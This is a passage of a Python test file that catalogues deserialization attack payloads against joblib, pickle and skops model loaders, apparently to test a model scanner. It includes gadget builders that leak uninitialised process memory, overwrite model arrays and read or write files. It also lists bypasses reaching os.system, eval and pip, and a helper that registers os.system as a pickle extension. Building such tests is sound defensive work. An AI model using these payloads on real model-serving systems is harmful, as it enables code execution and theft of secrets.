    cv.input = ct.transformers_[0][1].input = input_kind  # as if fitted on files
    lr = LinearRegression().fit(np.eye(3), np.eye(3))
    lr.coef_ = sp.identity(len(vocab), format="csr", dtype=np.float64)
    lr.intercept_ = np.zeros(len(vocab))
    lr.n_features_in_ = len(vocab)
    return Pipeline([("ct", ct), ("lr", lr)])


def _vectorizer_filename(canary: Path) -> tuple[str, bytes]:
    return _joblib(_reader("filename"))


def _vectorizer_filename_skops(canary: Path) -> tuple[str, bytes]:
    import skops.io as sio

    return "model.skops", sio.dumps(_reader("filename"))


def _vectorizer_file(canary: Path) -> tuple[str, bytes]:
    return _joblib(_reader("file"))


def _only_shadowed_method(canary: Path) -> tuple[str, bytes]:
    # Rule 1 alone: the partial is the one form HistGradientBoosting keeps.
    from sklearn.utils.validation import check_array

    st = _stacking(2)
    st._concatenate_predictions = partial(check_array, dtype=[np.float64],
                                          ensure_all_finite=False)
    return _joblib(st)


def _only_bunch_estimator(canary: Path) -> tuple[str, bytes]:
    from sklearn.utils._bunch import Bunch

    st = _stacking(2)
    st.final_estimator_ = Bunch(predict=np.negative)  # a value function, in a Bunch
    return _joblib(st)


def _only_stack_method_name(canary: Path) -> tuple[str, bytes]:
    st = _stacking(2)
    st.stack_method_ = ["tofile"]
    return _joblib(st)


def _only_bytes_function(canary: Path) -> tuple[str, bytes]:
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    x = np.arange(8.0).reshape(4, 2)
    return _joblib(Pipeline([("b", FunctionTransformer(func=bytes, validate=False)),
                             ("lr", LinearRegression().fit(x, x[:, 0]))]))


def _only_check_array_partial(canary: Path) -> tuple[str, bytes]:
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline

    x = np.arange(8.0).reshape(4, 2)
    return _joblib(Pipeline([_to_path_steps()[0], ("lr", LinearRegression().fit(x, x[:, 0]))]))


def _ufunc_where_false(canary: Path) -> tuple[str, bytes]:
    # np.positive(X, where=False) returns an uninitialised array: heap memory of the
    # serving process (keys, tokens, other requests) would come back as predictions.
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    x = np.arange(8.0).reshape(4, 2)
    leak = FunctionTransformer(np.positive, kw_args={"where": False})
    return _joblib(Pipeline([("leak", leak), ("lr", LinearRegression().fit(x, x[:, 0]))]))


def _ufunc_out_partial(canary: Path) -> tuple[str, bytes]:
    # out= makes the ufunc write the request into an array of the model (after the
    # load-time checks have seen it).
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    x = np.arange(8.0).reshape(4, 2)
    lr = LinearRegression().fit(x, x[:, 0])
    write = FunctionTransformer(partial(np.positive, out=lr.coef_.reshape(1, 2)))
    return _joblib(Pipeline([("write", write), ("lr", lr)]))


_IFACE = {"data": (8, True), "shape": (2,), "typestr": "<f8", "version": 3}


def _bunch_array_interface(canary: Path) -> tuple[str, bytes]:
    # numpy reads __array_interface__ from the instance; a Bunch's attributes are its
    # items: X @ coef_ turns an arbitrary address into an array (read/write of memory).
    from sklearn.linear_model import LinearRegression
    from sklearn.utils._bunch import Bunch

    x = np.arange(8.0).reshape(4, 2)
    lr = LinearRegression().fit(x, x[:, 0])
    lr.coef_ = Bunch(ndim=1, __array_interface__=_IFACE)
    return _joblib(lr)


def _instance_array_interface(canary: Path) -> tuple[str, bytes]:
    from sklearn.dummy import DummyRegressor
    from sklearn.linear_model import LinearRegression

    x = np.arange(8.0).reshape(4, 2)
    lr = LinearRegression().fit(x, x[:, 0])
    fake = DummyRegressor()
    fake.__dict__.update({"ndim": 1, "__array_interface__": _IFACE})
    lr.coef_ = fake
    return _joblib(lr)


def _defaultdict_factory(canary: Path) -> tuple[str, bytes]:
    # A factory runs on every missing key; the walk of dicts never saw it.
    from collections import defaultdict

    from sklearn.linear_model import LinearRegression

    x = np.arange(8.0).reshape(4, 2)
    lr = LinearRegression().fit(x, x[:, 0])
    lr.cache_ = defaultdict(bytes)
    return _joblib(lr)


def _bad_root(canary: Path) -> tuple[str, bytes]:
    # A Bunch as the whole model: "predict" is an item.
    from sklearn.utils._bunch import Bunch

    return _joblib(Bunch(predict=np.negative))


_RT = "mlops red team (/tmp/redteam)"
_SKOPS_FUNC = "https://www.tenable.com/cve/CVE-2024-37065"
_PS = "https://github.com/mmaitre314/picklescan"
_FK = "https://github.com/trailofbits/fickling"
_ARR = "found while closing direct numpy.ndarray construction (uninitialised/aliased memory)"

BYPASSES: list[Bypass] = [
    Bypass("numpy_wrapfunc_exec_chain", "mlops REFERENCE.md (numpy _wrapfunc gadget)",
           _wrapfunc_chain),
    Bypass("numpy_ufunc_reconstruct_os_system",
           "https://github.com/numpy/numpy/pull/4800 (_ufunc_reconstruct imports any name)",
           _ufunc_reconstruct),
    Bypass("numpy_builtins_dict_get", "https://github.com/protectai/modelscan/issues/89",
           _numpy_builtins_dict),
    Bypass("numpy_build_sys_modules_dotted",
           "https://github.com/protectai/modelscan/issues/89", _numpy_sys_modules_build),
    Bypass("numpy_prod_build_memo_stack_global",
           "https://github.com/protectai/modelscan/issues/85", _numpy_prod_memo),
    # numpy 2.4's np.size no longer indexes a.shape, so this one is dead here; still refused.
    Bypass("numpy_size_poly1d_getitem", "https://github.com/mindspore-ai/mindspore/issues/183",
           _numpy_size_poly1d, effect="none"),
    Bypass("numpy_f2py_getlincoef_eval", f"{_FK}/pull/210", _f2py_getlincoef),
    Bypass("numpy_distutils_exec_command", "https://github.com/tue-bmd/zea/pull/611",
           _distutils_exec_command),
    Bypass("numpy_memmap_opens_file", "mlops brief (classes are gadgets too)", _numpy_memmap),
    Bypass("numpy_savetxt_writes_file", "https://github.com/418sec/huntr/pull/1571 (npyio)",
           _numpy_savetxt),
    Bypass("pandas_hdfstore_opens_file", "mlops brief (classes are gadgets too)",
           _pandas_hdfstore, effect="none"),
    Bypass("xgboost_booster_constructor_reads_file", "found while building the allow list",
           _xgboost_booster_model_file, effect="none"),
    Bypass("lightgbm_booster_class_kept_as_value", "found while building the allow list",
           _lightgbm_booster_as_value, effect="none", static=False),
    Bypass("reduce_os_system", "https://docs.python.org/3/library/pickle.html", _reduce),
    Bypass("builtin_py2_module_names", f"{_FK}/pull/195 (GHSA-h4rm-mm56-xf63)",
           _builtin_py2_names),
    Bypass("codecs_computed_module_name", "https://github.com/promptfoo/modelaudit/pull/433",
           _codecs_module_name),
    Bypass("operator_methodcaller", f"{_PS}/pull/54 (GHSA-955r-x9j8-7rhh)",
           _operator_methodcaller),
    Bypass("operator_attrgetter", f"{_FK}/pull/210 (GHSA-m273-6v24-x4m4)",
           _operator_attrgetter),
    Bypass("functools_partial_wrapper", f"{_FK}/pull/210", _functools_partial),
    Bypass("pkgutil_resolve_name", f"{_PS}/issues/66 (GHSA-vvpj-8cmc-gx39)",
           _pkgutil_resolve_name),
    Bypass("importlib_import_module", f"{_PS}/pull/74", _importlib_import_module),
    Bypass("marshal_loads_code_object", f"{_PS}/pull/74", _marshal_loads),
    Bypass("pip_main", "https://osv.dev/vulnerability/CVE-2025-1716", _pip_main),
    Bypass("cprofile_run", f"{_PS}/pull/54 (GHSA-46h3-79wf-xr6c)", _cprofile_run),
    Bypass("idlelib_calltip_eval", f"{_FK}/pull/210 (GHSA-r8g5-cgf2-4m4m)", _idlelib_eval),
    Bypass("nested_pickle_loads", f"{_FK}/pull/210 (GHSA-84r2-jw7c-4r5q)", _nested_pickle),
    Bypass("io_fileio_write", f"{_FK}/pull/210 (CVE-2025-10156)", _io_fileio),
    Bypass("distutils_write_file", f"{_FK}/pull/210 (CVE-2025-10155)", _distutils_write_file),
    Bypass("asyncio_subprocess_transport", f"{_FK}/pull/210 (CVE-2025-10157)",
           _asyncio_transport, effect="none"),
    Bypass("subinterpreter_run_string", f"{_FK}/pull/302 (GHSA-6ggj-6f2q-f7mx)",
           _subinterpreter),
    Bypass("multiprocessing_spawnv_passfds", "https://github.com/protectai/modelscan/issues/338",
           _spawnv_passfds),
    Bypass("mlflow_run_entry_point", "https://github.com/protectai/modelscan/issues/338",
           _mlflow_entry_point, effect="none"),
    Bypass("memo_binput_memoize_confusion", f"{_PS}/issues/14", _memo_confusion),
    Bypass("ext_opcode_extension_registry", "https://github.com/nltk/nltk/pull/3757",
           _ext_opcode),
    Bypass("broken_stream_after_payload",
           "https://safeguard.sh/resources/blog/nullifai-broken-pickles-huggingface-attack",
           _broken_stream),
    Bypass("joblib_zlib_payload", "https://github.com/google/saferpickle/pull/41",
           _joblib_compressed(3)),
    Bypass("joblib_gzip_payload", "https://github.com/google/saferpickle/pull/41",
           _joblib_compressed(("gzip", 3))),
    Bypass("joblib_bz2_payload", "https://github.com/google/saferpickle/pull/41",
           _joblib_compressed(("bz2", 3))),
    Bypass("joblib_xz_payload",
           "https://safeguard.sh/resources/blog/nullifai-broken-pickles-huggingface-attack",
           _joblib_compressed(("xz", 3))),
    Bypass("joblib_object_array_nested_pickle", f"{_FK}/pull/210 (nested pickles)",
           _joblib_object_array),
    Bypass("joblib_forged_dtype_flags_nested_pickle", "mlops pickle scanner tests",
           _joblib_dtype_flags),
    Bypass("dtype_object_flags_forgery", "found while building the allow list",
           _dtype_object_flags, effect="crash"),
    Bypass("dtype_field_offset_out_of_bounds", "found while building the allow list",
           _dtype_field_offset, effect="none"),
    Bypass("pandas_block_placement_out_of_bounds", "found while building the allow list",
           _pandas_placement, effect="crash", static=False),
    Bypass("pandas_multiindex_codes_out_of_bounds", "found while building the allow list",
           _multiindex_codes, effect="none", static=False),
    Bypass("sklearn_tree_child_index_out_of_bounds",
           "skops TreeNode note (scikit-learn PR 34558)", _tree_children, effect="crash",
           trigger="predict", static=False),
    Bypass("build_monkeypatches_library_class",
           "https://github.com/protectai/modelscan/issues/85", _build_on_class, effect="none"),
    Bypass("setitem_into_checked_array", "found while building the allow list",
           _setitem_into_array, effect="none"),
    Bypass("skops_function_node_exec", _SKOPS_FUNC, _skops_exec, effect="none",
           trigger="predict"),
    Bypass("skops_function_node_savetxt", _SKOPS_FUNC, _skops_savetxt, trigger="predict"),
    Bypass("skops_operator_func_node_methodcaller", "skops CVE-2025-54412 (OperatorFuncNode)",
           _skops_methodcaller, trigger="predict"),
    Bypass("skops_method_node", "skops CVE-2025-54413 (MethodNode)", _skops_method_node,
           effect="none", trigger="predict"),
    Bypass("skops_default_trusted_map_type", "skops _trusted_types.CONTAINER_TYPE_NAMES",
           _skops_map_type, effect="none", trigger="predict"),
    # allowed scikit-learn classes acting on their state (allow-listed names only)
    Bypass("sklearn_stacking_tofile_writes_request_path", f"{_RT}/filewrite/build.py",
           _stacking_tofile, trigger="predict", predict_input=_path_rows),
    Bypass("sklearn_stacking_shadowed_method_bunch_estimator", f"{_RT}/filewrite/build4.py",
           _stacking_tofile_shadowed, trigger="predict", predict_input=_path_rows),
    Bypass("skops_sklearn_stacking_tofile_writes_request_path",
           f"{_RT}/filewrite/writer.skops", _stacking_tofile_skops, trigger="predict",
           predict_input=_path_rows),
    Bypass("sklearn_countvectorizer_input_filename_reads_file", f"{_RT}/fileread/build.py",
           _vectorizer_filename, effect="read", trigger="predict",
           predict_input=_secret_frame),
    Bypass("skops_sklearn_countvectorizer_input_filename_reads_file",
           f"{_RT}/fileread/build.py (skops)", _vectorizer_filename_skops, effect="read",
           trigger="predict", predict_input=_secret_frame),
    Bypass("sklearn_countvectorizer_input_file", f"{_RT} (input='file')", _vectorizer_file,
           effect="none", trigger="predict", predict_input=_secret_frame),
    Bypass("sklearn_instance_attribute_shadows_method", f"{_RT}/filewrite/build3.py",
           _only_shadowed_method, effect="none", trigger="predict"),
    Bypass("sklearn_bunch_in_estimator_slot", f"{_RT}/filewrite/build3.py",
           _only_bunch_estimator, effect="none", trigger="predict"),
    Bypass("sklearn_stack_method_names_any_method", f"{_RT}/filewrite/build.py",
           _only_stack_method_name, effect="none", trigger="predict"),
    Bypass("sklearn_function_transformer_bytes_class", f"{_RT}/filewrite/build.py",
           _only_bytes_function, effect="none", trigger="predict"),
    Bypass("sklearn_partial_check_array_to_uint8", f"{_RT}/filewrite/build.py",
           _only_check_array_partial, effect="none", trigger="predict"),
    Bypass("numpy_ufunc_where_false_uninitialised_memory", "found while closing the red-team "
           "finding (stored keyword arguments)", _ufunc_where_false, effect="none",
           trigger="predict"),
    Bypass("numpy_ufunc_out_writes_model_array", "found while closing the red-team finding",
           _ufunc_out_partial, effect="none", trigger="predict"),
    Bypass("bunch_array_interface_memory_access", "found while closing the red-team finding "
           "(numpy reads __array_interface__ from the instance)", _bunch_array_interface,
           effect="crash", trigger="predict"),
    Bypass("instance_array_interface_memory_access", "found while closing the red-team "
           "finding", _instance_array_interface, effect="crash", trigger="predict"),
    # numpy arrays constructed directly (allow-listed names only)
    Bypass("numpy_ndarray_reduce_uninitialised_memory", _ARR, _ndarray_reduce, effect="leak",
           trigger="predict", predict_input=_eye),
    Bypass("numpy_ndarray_newobj_uninitialised_memory", _ARR, _ndarray_newobj, effect="leak",
           trigger="predict", predict_input=_eye),
    Bypass("numpy_ndarray_inst_uninitialised_memory", _ARR, _ndarray_inst, effect="leak",
           trigger="predict", predict_input=_eye),
    Bypass("numpy_ndarray_obj_uninitialised_memory", _ARR, _ndarray_obj, effect="leak",
           trigger="predict", predict_input=_eye),
    Bypass("functools_partial_of_ndarray_uninitialised_memory", _ARR, _partial_ndarray,
           effect="leak", trigger="predict", predict_input=_eye),
    Bypass("functools_partial_of_ndarray_obj_uninitialised_memory", _ARR,
           _partial_ndarray_obj, effect="leak", trigger="predict", predict_input=_eye),
    Bypass("functools_partial_of_booster_reads_file", _ARR, _partial_booster, effect="none"),
    Bypass("numpy_ndarray_newobj_ex_buffer_aliases_array", _ARR, _ndarray_newobj_ex_buffer,
           effect="alias"),
    Bypass("numpy_reconstruct_with_a_shape_uninitialised_memory", _ARR, _reconstruct_shape,
           effect="leak", trigger="predict", predict_input=_eye),
    Bypass("numpy_mareconstruct_with_a_shape_uninitialised_memory", _ARR,
           _mareconstruct_shape, effect="none"),
    Bypass("copyreg_reconstructor_ndarray_base_uninitialised_memory", _ARR,
           _reconstructor_ndarray_base, effect="leak", trigger="predict", predict_input=_eye),
    Bypass("numpy_masked_array_call_aliases_array", _ARR, _masked_array_call, effect="alias"),
    Bypass("numpy_frombuffer_of_an_array_aliases_it", _ARR, _frombuffer_of_array,
           effect="alias"),
    Bypass("numpy_frombuffer_shared_bytearray_aliases_arrays", _ARR,
           _frombuffer_shared_bytearray, effect="alias"),
    Bypass("numpy_setstate_shared_bytes_aliases_arrays", _ARR, _setstate_shared_bytes,
           effect="alias"),
    Bypass("skops_list_node_ndarray_uninitialised_memory", _ARR, _skops_list_node,
           effect="leak", trigger="predict", predict_input=_eye),
    Bypass("skops_loss_node_ndarray_uninitialised_memory", _ARR, _skops_loss_node,
           effect="leak", trigger="predict", predict_input=_eye),
    Bypass("skops_constructor_node_ndarray_buffer_aliases_array", _ARR,
           _skops_constructor_buffer, effect="alias"),
    Bypass("skops_masked_array_node_shares_another_arrays_data", _ARR,
           _skops_masked_array_shared_data, effect="alias"),
    Bypass("defaultdict_factory_class", "found while closing the red-team finding",
           _defaultdict_factory, effect="none", static=False),
    Bypass("bunch_as_the_model", "found while closing the red-team finding", _bad_root,
           effect="none", trigger="predict", static=False),
]

# Names are unique: they are test ids.
assert len({bp.name for bp in BYPASSES}) == len(BYPASSES)


def register_ext() -> None:
    """Register the EXT bypass's extension code (os.system); undo with unregister_ext."""
    copyreg.add_extension("os", "system", EXT_CODE)


def unregister_ext() -> None:
    copyreg.remove_extension("os", "system", EXT_CODE)
